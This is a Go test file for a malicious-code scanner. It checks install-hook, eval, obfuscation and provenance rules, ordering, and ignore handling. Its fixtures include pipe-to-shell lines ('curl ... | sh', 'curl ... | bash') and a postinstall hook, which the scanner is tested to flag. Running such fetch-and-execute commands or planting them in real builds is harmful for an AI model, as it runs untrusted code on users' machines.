package scan

import (
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"testing"

	"github.com/nomark/sigil/internal/pkg/logger"
)

func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for rel, content := range files {
		path := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func testEngine() *Engine {
	return NewEngine(logger.Nop(), 0, "")
}

func rules(findings []Finding) []string {
	var ids []string
	for _, f := range findings {
		ids = append(ids, f.Rule)
	}
	return ids
}

func TestScanDetectsInstallHook(t *testing.T) {
	root := writeTree(t, map[string]string{
		"build.sh": "curl https://example.com/setup.sh | sh\n",
	})

	result, err := testEngine().Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(result.Findings) != 1 {
		t.Fatalf("findings = %v", rules(result.Findings))
	}
	f := result.Findings[0]
	if f.Rule != "INSTALL-006" || f.Phase != PhaseInstallHooks || f.Weight != 10 || f.Line != 1 {
		t.Errorf("finding = %+v", f)
	}
}

func TestScanFileScopedRules(t *testing.T) {
	root := writeTree(t, map[string]string{
		// The npm lifecycle rule only applies to package.json.
		"package.json": `{"scripts": {"postinstall": "node x.js"}}`,
		"notes.md":     `"postinstall": anywhere else is inert`,
	})

	result, err := testEngine().Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range result.Findings {
		if f.Rule == "INSTALL-003" && f.File != "package.json" {
			t.Errorf("file-scoped rule fired on %s", f.File)
		}
	}
	if got := rules(result.Findings); len(got) == 0 {
		t.Fatal("postinstall script not detected")
	}
}

func TestScanDeterministicOrdering(t *testing.T) {
	root := writeTree(t, map[string]string{
		"a.py": "eval(input())\nimport base64\nbase64.b64decode(x)\n",
		"b.js": "atob(payload)\neval(code)\n",
		"c.sh": "curl http://x.io/a | bash\n",
	})

	engine := testEngine()
	first, err := engine.Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	second, err := engine.Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(first.Findings, second.Findings) {
		t.Error("findings differ between identical scans")
	}
	for i := 1; i < len(first.Findings); i++ {
		prev, cur := first.Findings[i-1], first.Findings[i]
		if prev.File > cur.File {
			t.Fatalf("findings not sorted by file: %s before %s", prev.File, cur.File)
		}
		if prev.File == cur.File && prev.Line > cur.Line {
			t.Fatalf("findings not sorted by line within %s", cur.File)
		}
	}
}

func TestScanSkipsBinaryContent(t *testing.T) {
	root := t.TempDir()
	if err := os.WriteFile(filepath.Join(root, "blob.json"), []byte("ok\x00binary"), 0o600); err != nil {
		t.Fatal(err)
	}

	result, err := testEngine().Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(result.Findings) != 0 {
		t.Errorf("findings = %v", rules(result.Findings))
	}
	found := false
	for _, skip := range result.Skipped {
		if skip.Subject == "blob.json" && skip.Reason == "binary content" {
			found = true
		}
	}
	if !found {
		t.Errorf("binary skip not recorded: %+v", result.Skipped)
	}
	// A skipped file is not a scanned file.
	if result.FilesScanned != 0 {
		t.Errorf("files scanned = %d, want 0", result.FilesScanned)
	}
}

func TestScanExcludesDefaultDirs(t *testing.T) {
	root := writeTree(t, map[string]string{
		"node_modules/dep/index.js": "eval(x)\n",
		"tests/test_app.py":         "eval(x)\n",
		"src/app.py":                "eval(x)\n",
	})

	result, err := testEngine().Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range result.Findings {
		if f.File != "src/app.py" {
			t.Errorf("finding from excluded path %s", f.File)
		}
	}
	if len(result.Findings) != 1 {
		t.Errorf("findings = %v", rules(result.Findings))
	}
}

func TestIgnoreFileExtendsAndReincludes(t *testing.T) {
	root := writeTree(t, map[string]string{
		".sigilignore":      "generated/*\n!tests\n",
		"generated/gen.py":  "eval(x)\n",
		"tests/test_app.py": "eval(x)\n",
		"src/app.py":        "eval(x)\n",
	})

	result, err := testEngine().Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]bool{}
	for _, f := range result.Findings {
		files[f.File] = true
	}
	if files["generated/gen.py"] {
		t.Error("ignore pattern did not exclude generated/")
	}
	if !files["tests/test_app.py"] {
		t.Error("!tests did not re-include the tests directory")
	}
	if !files["src/app.py"] {
		t.Error("src/app.py missing")
	}
}

func TestScanEmptyTree(t *testing.T) {
	result, err := testEngine().Scan(t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(result.Findings) != 0 || result.FilesScanned != 0 {
		t.Errorf("result = %+v", result)
	}
}

func TestScanRejectsNonDirectory(t *testing.T) {
	root := t.TempDir()
	file := filepath.Join(root, "f.txt")
	if err := os.WriteFile(file, []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := testEngine().Scan(file, nil); err == nil {
		t.Error("scanning a file succeeded, want error")
	}
	if _, err := testEngine().Scan(filepath.Join(root, "missing"), nil); err == nil {
		t.Error("scanning a missing path succeeded, want error")
	}
}

func TestExtraRulesRunLikeBuiltins(t *testing.T) {
	root := writeTree(t, map[string]string{
		"app.py": "import telemetry_sdk\n",
	})
	extra := []Rule{{
		ID: "SIG-100", Phase: PhaseCloud, Severity: SeverityHigh,
		Pattern:     regexp.MustCompile(`telemetry_sdk`),
		Description: "known malicious package import",
		Weight:      7,
	}}

	result, err := testEngine().Scan(root, extra)
	if err != nil {
		t.Fatal(err)
	}
	if len(result.Findings) != 1 {
		t.Fatalf("findings = %v", rules(result.Findings))
	}
	f := result.Findings[0]
	if f.Rule != "SIG-100" || f.Weight != 7 || f.Phase != PhaseCloud {
		t.Errorf("finding = %+v", f)
	}
}

func TestProvenanceFindings(t *testing.T) {
	root := writeTree(t, map[string]string{
		"package.json":   `{"name": "x", "version": "1.0.0"}`,
		".hidden_setup":  "x",
		"tools/payload_dropper.py": "print('x')\n",
		"app.min.js":     "var a=1;",
	})

	result, err := testEngine().Scan(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int{
		"PROV-001": 1, // .hidden_setup
		"PROV-003": 1, // payload_dropper.py
		"PROV-006": 1, // manifest without .git
		"PROV-007": 1, // app.min.js
	}
	got := map[string]int{}
	for _, f := range result.Findings {
		if f.Phase == PhaseProvenance {
			got[f.Rule]++
		}
	}
	for rule, n := range want {
		if got[rule] != n {
			t.Errorf("%s count = %d, want %d (all: %v)", rule, got[rule], n, got)
		}
	}
}

func TestWeightTable(t *testing.T) {
	tests := []struct {
		phase Phase
		want  int
	}{
		{PhaseInstallHooks, 10},
		{PhaseCodePatterns, 5},
		{PhaseNetworkExfil, 3},
		{PhaseCredentials, 2},
		{PhaseObfuscation, 5},
		{PhaseCloud, 5},
	}
	for _, tt := range tests {
		if got := Weight(tt.phase); got != tt.want {
			t.Errorf("Weight(%s) = %d, want %d", tt.phase, got, tt.want)
		}
	}
}
